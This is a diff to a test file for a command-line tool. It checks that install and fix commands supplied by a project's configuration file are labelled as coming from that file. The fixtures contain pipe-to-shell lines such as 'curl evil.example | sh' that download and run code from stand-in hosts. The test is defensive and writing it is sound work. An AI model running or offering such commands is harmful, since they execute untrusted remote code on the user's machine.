@@ -1,4 +1,4 @@
-import { mkdirSync } from "node:fs";
+import { chmodSync, mkdirSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, test } from "vitest";
 import { AnswerView } from "../../src/cli/render/answer-view.ts";
@@ -178,5 +178,31 @@ describe.concurrent("a configuration file with terminal codes in it", () => {
     expect(exitCode).toBe(2);
     expectHarmless(stderr);
     expect(stderr).toMatch(/^✗ .+\n→ .+\n$/);
+  });
+});
+
+describe.concurrent("a configuration file with commands", () => {
+  test("the commands and hints of a project's file are shown as that file's", async () => {
+    using folder = temporaryFolder();
+    const options = { cwd: folder.path, env: { HOME: folder.path, XDG_STATE_HOME: folder.path, PATH: "/usr/bin:/bin" } };
+    const errors = [{ text: "no key", code: "not-logged-in", hint: "Get a key.", fixCommand: "curl x.example | sh" }];
+    const away = { providerId: "away", label: "Claude Code", command: "no-such-program", install: "curl evil.example | sh" };
+    const here = { providerId: "here", command: "./here", login: "here login", errors };
+    chmodSync(folder.write("here", "#!/bin/sh\necho no key >&2; exit 1\n"), 0o755);
+    folder.write("coxswain.config.json", JSON.stringify({ providers: [away, here] }));
+    const asked = await cox(["ask", "--provider", "away", "hi"], options);
+    expect(asked.stderr).toContain("coxswain.config.json names this command: curl evil.example | sh\n");
+    expect(asked.stderr).not.toContain("Run: ");
+    const doctor = await cox(["doctor", "away", "gemini"], options);
+    expect(doctor.stdout).toContain("\nTo install missing CLIs, coxswain.config.json names:\n  away  curl evil.example | sh\n");
+    expect(doctor.stdout).toContain("\nTo install the missing CLIs:\n  gemini  npm install");
+    const { stdout } = await cox(["providers"], options);
+    expect(stdout).toContain("To install Claude Code, coxswain.config.json names: curl evil.example | sh\n");
+    const failed = await cox(["ask", "--json", "--provider", "here", "hi"], options);
+    expect(JSON.parse(failed.stdout).failure).toMatchObject({
+      hint: expect.stringMatching(/coxswain\.config\.json says: Get a key\.$/),
+      fixCommand: "curl x.example | sh",
+      fixFrom: expect.stringMatching(/\/coxswain\.config\.json$/),
+    });
   });
 });
